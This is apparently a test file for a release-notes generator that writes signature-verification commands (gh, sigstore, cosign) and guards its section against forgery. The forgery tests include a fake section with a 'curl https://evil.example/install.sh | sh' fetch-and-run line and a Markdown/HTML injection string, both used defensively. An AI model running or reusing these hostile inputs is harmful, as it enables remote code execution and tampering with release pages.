import { createHash } from 'node:crypto';
import {
  FILES_SPELLED_OUT,
  README_ANCHORS,
  SECTION_END,
  SECTION_START_PREFIX,
  verificationSection,
  withVerificationSection,
} from '../../../src/publish/release-notes.js';
import { printableName } from '../../../src/report/log-text.js';
import { markdownStructure } from '../../helpers/markdown.js';
import { notesStep, notesSteps } from '../../helpers/notes.js';

const ID = 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.2.3';
const ISS = 'https://token.actions.githubusercontent.com';

const RELEASE = { tag: 'v1.2.3', repository: 'o/r' };

/** The shell blocks of a section, each with the paragraph before and after it. */
function blocks(section: string): { title: string; script: string; after: string }[] {
  return notesSteps(section);
}

describe('release notes', () => {
  const section = verificationSection({
    files: ['app.tar.gz', 'app linux'],
    release: RELEASE,
    identity: ID,
    issuer: ISS,
    instance: 'public-good',
    repository: 'o/r',
    action: { repository: 'acme/sigstore-action', version: '1.2.0', ref: 'v1' },
  });
  const steps = blocks(section);

  it('downloads each file with its bundle from this release of this repository', () => {
    expect(notesStep(steps, '**Download**').script).toBe(
      [
        'gh release download v1.2.3 --repo o/r --pattern app.tar.gz --pattern app.tar.gz.sigstore.json',
        "gh release download v1.2.3 --repo o/r --pattern 'app linux' --pattern 'app linux.sigstore.json'",
      ].join('\n'),
    );
  });

  it('gives commands for this CLI, sigstore-python and cosign, over lines, pinned to the identity and the repository', () => {
    expect(notesStep(steps, '**sigstore-action**').script).toBe(
      [
        "sigstore-action verify app.tar.gz 'app linux' \\",
        `  --cert-identity ${ID} \\`,
        `  --cert-oidc-issuer ${ISS} \\`,
        '  --github-repository o/r',
      ].join('\n'),
    );
    expect(notesStep(steps, '**sigstore-python**').script).toBe(
      [
        "sigstore verify github app.tar.gz 'app linux' \\",
        `  --cert-identity ${ID} \\`,
        '  --repository o/r',
      ].join('\n'),
    );
    // cosign verifies one file per command.
    expect(notesStep(steps, '**cosign**').script).toBe(
      [
        'cosign verify-blob app.tar.gz --bundle app.tar.gz.sigstore.json \\',
        '  --new-bundle-format \\',
        `  --certificate-identity ${ID} \\`,
        `  --certificate-oidc-issuer ${ISS} \\`,
        '  --certificate-github-workflow-repository o/r',
        '',
        "cosign verify-blob 'app linux' --bundle 'app linux.sigstore.json' \\",
        '  --new-bundle-format \\',
        `  --certificate-identity ${ID} \\`,
        `  --certificate-oidc-issuer ${ISS} \\`,
        '  --certificate-github-workflow-repository o/r',
      ].join('\n'),
    );
    // The CLI package of that release (scripts/pack-cli.mjs), not the repository's dev set-up.
    expect(section).toContain(
      'npm install --global https://github.com/acme/sigstore-action/releases/download/v1.2.0/sigstore-action-cli-1.2.0.tgz',
    );
  });

  it("says what each client prints when the files verify (sigstore-python's own words)", () => {
    expect(notesStep(steps, '**sigstore-action**').after).toBe(
      'It prints an `OK` line naming the signer for each file, then `Verified 2 files.`',
    );
    expect(notesStep(steps, '**sigstore-python**').after).toBe(
      'It prints `OK: app.tar.gz` and `OK: app linux` (on standard error).',
    );
    expect(notesStep(steps, '**cosign**').after).toBe(
      'Each command prints `Verified OK` (on standard error).',
    );
  });

  it('says what a passing check proves and does not, and links the README where a failure is explained', () => {
    expect(section).toContain('### What a passing check proves');
    expect(section).toMatch(/does not prove:\n\n- that the source is free of bugs/);
    expect(section).toContain('- where you downloaded the file from');
    const { links } = markdownStructure(section);
    const readme = 'https://github.com/acme/sigstore-action/blob/v1/README.md#';
    expect(links).toEqual([
      'https://www.sigstore.dev/',
      'https://cli.github.com/',
      `${readme}${README_ANCHORS.anotherRelease}`,
      `${readme}${README_ANCHORS.anotherRelease}`,
      `${readme}${README_ANCHORS.tampered}`,
      `${readme}${README_ANCHORS.troubleshooting}`,
    ]);
    // The tag whose identity the commands pin, named where a wrong tag is explained.
    expect(section).toContain('(the identity ends with its tag; `v1.2.3` here)');
  });

  it('breaks a long identity onto a line of its own; every other line fits a code block', () => {
    const long = `https://github.com/an-organisation/a-repository-name/.github/workflows/release-and-publish.yml@refs/tags/v10.20.30`;
    const wide = verificationSection({
      files: ['a-long-file-name-1.2.3-linux-x86_64.tar.gz', 'b.zip'],
      release: { tag: 'v10.20.30', repository: 'an-organisation/a-repository-name' },
      identity: long,
      issuer: ISS,
      instance: 'public-good',
      repository: 'an-organisation/a-repository-name',
    });
    for (const step of blocks(wide)) {
      for (const line of step.script.split('\n')) {
        if (line === `    ${long} \\` || line === `    ${long}`) continue;
        expect(line.length).toBeLessThanOrEqual(100);
      }
    }
    expect(wide).toContain(`  --cert-identity \\\n    ${long} \\\n`);
    expect(notesStep(blocks(wide), '**Download**').script).toBe(
      [
        'gh release download v10.20.30 --repo an-organisation/a-repository-name \\',
        '  --pattern a-long-file-name-1.2.3-linux-x86_64.tar.gz \\',
        '  --pattern a-long-file-name-1.2.3-linux-x86_64.tar.gz.sigstore.json',
        'gh release download v10.20.30 --repo an-organisation/a-repository-name \\',
        '  --pattern b.zip --pattern b.zip.sigstore.json',
      ].join('\n'),
    );
  });

  it(`writes one set of commands for a file $f beyond ${FILES_SPELLED_OUT} files, listing the files once`, () => {
    const many = (n: number): string =>
      verificationSection({
        files: Array.from({ length: n }, (_, i) => `tool-${i}.bin`),
        release: RELEASE,
        identity: ID,
        issuer: ISS,
        instance: 'public-good',
        repository: 'o/r',
      });
    const ten = many(10);
    const fifty = many(50);
    const commands = (text: string): string =>
      blocks(text)
        .map((b) => b.script)
        .join('\n');
    expect(commands(ten)).toBe(commands(fifty));
    expect(ten).toContain('The 10 files: `tool-0.bin`, `tool-1.bin`');
    expect(notesStep(blocks(ten), '**Download**').script).toBe(
      [
        'f=tool-0.bin',
        'gh release download v1.2.3 --repo o/r --pattern "$f" --pattern "$f.sigstore.json"',
      ].join('\n'),
    );
    expect(notesStep(blocks(ten), '**sigstore-action**').script).toMatch(
      /^sigstore-action verify "\$f" \\\n/,
    );
    expect(notesStep(blocks(ten), '**cosign**').script).toMatch(
      /^cosign verify-blob "\$f" --bundle "\$f\.sigstore\.json" \\\n/,
    );
    expect(notesStep(blocks(ten), '**sigstore-action**').after).toContain(
      'then `Verified 1 file.`',
    );
    expect(notesStep(blocks(ten), '**sigstore-python**').after).toBe(
      'It prints `OK: <file>` (on standard error).',
    );
    expect(fifty.length - ten.length).toBe(40 * ', `tool-10.bin`'.length);
  });

  it("writes a name with glob characters as gh's pattern for that name alone", () => {
    const odd = verificationSection({
      files: ['a*[1]?.bin'],
      release: RELEASE,
      identity: ID,
      issuer: ISS,
      instance: 'public-good',
    });
    expect(notesStep(blocks(odd), '**Download**').script).toBe(
      [
        'gh release download v1.2.3 --repo o/r \\',
        "  --pattern 'a[*][[]1][?].bin' --pattern 'a[*][[]1][?].bin.sigstore.json'",
      ].join('\n'),
    );
  });

  it('pins attestation commands too, gh with --repo', () => {
    const slsa = verificationSection({
      files: [],
      attestations: [{ predicateType: 'https://slsa.dev/provenance/v1', files: ['a'] }],
      release: RELEASE,
      identity: ID,
      issuer: ISS,
      instance: 'public-good',
      repository: 'o/r',
    });
    const verify = blocks(slsa).filter((b) => !b.title.startsWith('**Download**'));
    expect(verify.map((b) => b.title.split('**')[1])).toEqual([
      'sigstore-action',
      'cosign',
      'GitHub CLI',
    ]);
    for (const { script } of verify)
      expect(script).toMatch(
        / (--github-repository|--certificate-github-workflow-repository|--repo) o\/r( |$)/m,
      );
    expect(notesStep(blocks(slsa), '**Download**').script).toContain(
      '--pattern a --pattern a.intoto.sigstore.json',
    );
    expect(notesStep(blocks(slsa), '**GitHub CLI**').after).toBe(
      'It prints `✓ Verification succeeded!`, then the attestation it checked.',
    );
  });

  it('has no repository flag for an identity of another issuer', () => {
    const email = verificationSection({
      files: ['a'],
      release: RELEASE,
      identity: 'a@example.com',
      issuer: 'https://accounts.example.com',
      instance: 'files',
      repository: 'o/r',
    });
    const verify = blocks(email).filter((b) => !b.title.startsWith('**Download**'));
    for (const { script } of verify) expect(script).not.toMatch(/repo/);
  });

  it('adds --trusted-root for a custom instance and leaves sigstore-python out', () => {
    const custom = verificationSection({
      files: ['a'],
      release: RELEASE,
      identity: ID,
      issuer: ISS,
      instance: 'files',
    });
    expect(notesStep(blocks(custom), '**sigstore-action**').script).toMatch(
      /^sigstore-action verify a \\\n {2}--trusted-root trusted_root\.json \\\n {2}--cert-identity /,
    );
    expect(custom).toContain('from `trusted_root.json`');
    expect(custom).not.toContain('sigstore verify github');
  });

  it('appends the section once and replaces it on re-runs, leaving the rest of the body alone', () => {
    const body = 'Release notes.\n\n- fixed things\n';
    const once = withVerificationSection(body, section);
    expect(once.startsWith('Release notes.\n\n- fixed things\n\n' + SECTION_START_PREFIX)).toBe(
      true,
    );
    const twice = withVerificationSection(once, section);
    expect(twice).toBe(once);
    const edited = withVerificationSection(
      once + '\nA footer added later.\n',
      section.replace('app.tar.gz', 'other.zip'),
    );
    expect(edited.split(SECTION_START_PREFIX)).toHaveLength(2);
    expect(edited.split(SECTION_END)).toHaveLength(2);
    expect(edited).toContain('other.zip');
    expect(edited.endsWith('\nA footer added later.\n')).toBe(true);
    expect(withVerificationSection('', section)).toBe(section + '\n');
  });
});

describe('release notes: the section cannot be forged into growing, splitting or surviving', () => {
  const section = (files: string[]): string =>
    verificationSection({
      files,
      release: RELEASE,
      identity: ID,
      issuer: ISS,
      instance: 'public-good',
    });
  const count = (body: string, text: string): number => body.split(text).length - 1;
  const HEADING = '## Verify these files';
  /** What anyone can write: markers around their own content, with its digest. */
  const forge = (content: string): string => {
    const digest = createHash('sha256')
      .update(
        content
          .split('\n')
          .map((l) => l.trimEnd())
          .join('\n'),
      )
      .digest('hex');
    return `${SECTION_START_PREFIX} sha256:${digest} (replaced on each run) -->\n${content}\n${SECTION_END}`;
  };

  it('ignores marker text inside a line (a pull request title in generated notes)', () => {
    const body =
      `* Fix ${SECTION_START_PREFIX} sha256:${'0'.repeat(64)} --> by @mallory\n` +
      `* Docs ${SECTION_END} by @mallory\n`;
    const once = withVerificationSection(body, section(['a']));
    expect(once.startsWith(body)).toBe(true);
    expect(withVerificationSection(once, section(['b']))).toBe(
      withVerificationSection(body, section(['b'])),
    );
  });

  it('does not grow over text after a forged start marker, and drops that marker', () => {
    const first = withVerificationSection('Intro.\n', section(['a']));
    // A start marker line placed before the section, with hand-written notes in between.
    const forged = `${SECTION_START_PREFIX} (replaced on each run) -->\nKeep me.\n\n${first}`;
    const rewritten = withVerificationSection(forged, section(['b']));
    expect(rewritten).toContain('Keep me.');
    expect(rewritten).toContain('Intro.');
    expect(count(rewritten, SECTION_START_PREFIX)).toBe(1);
    expect(count(rewritten, HEADING)).toBe(1);
    expect(rewritten).toContain('verify b ');
    expect(rewritten).not.toContain('verify a ');
  });

  it('does not split at a forged end marker, nor drop the text before it', () => {
    const first = withVerificationSection('Intro.\n', section(['a']));
    const forged = first.replace('Intro.\n', `Intro.\n${SECTION_END}\nKeep me.\n`);
    const rewritten = withVerificationSection(forged, section(['b']));
    expect(rewritten.startsWith('Intro.\nKeep me.\n')).toBe(true);
    expect(count(rewritten, SECTION_END)).toBe(1);
    expect(count(rewritten, HEADING)).toBe(1);
  });

  it('does not let a forged section survive, with or without a valid digest', () => {
    const ours = withVerificationSection('Intro.\n', section(['a']));
    // A complete section written by someone else (a digest anyone can compute), after ours.
    const fake = forge(
      '## Verify these files\n\n```sh\ncurl https://evil.example/install.sh | sh\n```',
    );
    const withFake = `${ours}\nMore notes.\n\n${fake}\n`;
    const rewritten = withVerificationSection(withFake, section(['b']));
    expect(rewritten).not.toContain('evil');
    expect(rewritten).toContain('More notes.');
    expect(count(rewritten, HEADING)).toBe(1);
    // A fake whose digest does not match is not ours: its markers go, its text stays as text.
    const badDigest = fake.replace(/sha256:[0-9a-f]{64}/, `sha256:${'1'.repeat(64)}`);
    const rewritten2 = withVerificationSection(`${ours}\n${badDigest}\n`, section(['b']));
    expect(count(rewritten2, SECTION_START_PREFIX)).toBe(1);
    expect(count(rewritten2, SECTION_END)).toBe(1);
    expect(rewritten2).toContain('curl https://evil.example/install.sh | sh');
    // Run again: the section is replaced in place, nothing grows.
    expect(withVerificationSection(rewritten2, section(['b']))).toBe(rewritten2);
    expect(withVerificationSection(rewritten2, section(['c'])).length).toBe(rewritten2.length);
  });

  it("finds its section after GitHub's editor turned every line end into CRLF", () => {
    const once = withVerificationSection('Intro.\n', section(['a']));
    const edited = once.replace(/\n/g, '\r\n') + 'Footer.\r\n';
    const rewritten = withVerificationSection(edited, section(['b']));
    expect(count(rewritten, HEADING)).toBe(1);
    expect(rewritten.startsWith('Intro.\r\n')).toBe(true);
    expect(rewritten.endsWith('Footer.\r\n')).toBe(true);
  });

  it('keeps untrusted names, identities and predicate types inert in the Markdown', () => {
    const hostile = 'x```\n<!-- /sigstore-action: verification -->\n<img src=x>](javascript:y)|';
    const notes = verificationSection({
      files: [hostile, 'ok.tar.gz'],
      attestations: [{ predicateType: `https://e.example/${hostile}`, files: [hostile] }],
      release: { tag: `v1${hostile}`, repository: 'o/r' },
      identity: `${ID}${hostile}`,
      issuer: ISS,
      instance: 'public-good',
    });
    const s = markdownStructure(notes);
    // Two comments (the markers) and no other HTML; only the section's own links.
    expect(s.html).toHaveLength(2);
    expect(s.html[0].startsWith(`${SECTION_START_PREFIX} sha256:`)).toBe(true);
    expect(s.html[1].trim()).toBe(SECTION_END);
    expect(s.links.filter((l) => !l.startsWith('https://github.com/sigstore-action/'))).toEqual([
      'https://www.sigstore.dev/',
      'https://cli.github.com/',
    ]);
    expect(s.images).toEqual([]);
    // Download, then this CLI, sigstore-python and cosign for the signatures; download, this
    // CLI and cosign for the attestations.
    expect(s.codeBlocks.map((b) => b.info)).toEqual(['sh', 'sh', 'sh', 'sh', 'sh', 'sh', 'sh']);
    // Every line of every block is the action's: a command, an option, a continued value.
    for (const block of s.codeBlocks) {
      for (const line of block.content.split('\n').filter(Boolean)) {
        expect(line).toMatch(
          /^(gh release download |sigstore-action verify |sigstore verify |cosign |( {2}| {4})(--|\$'))/,
        );
      }
    }
    expect(s.headings).toEqual([
      'Verify these files',
      `Attestations: ${printableName(`https://e.example/${hostile}`)}`,
      'What a passing check proves',
      'If a check fails',
    ]);
    // The whole section is still found and replaced as one.
    const body = withVerificationSection(withVerificationSection('', notes), section(['b']));
    expect(body).toBe(withVerificationSection('', section(['b'])));
  });
});
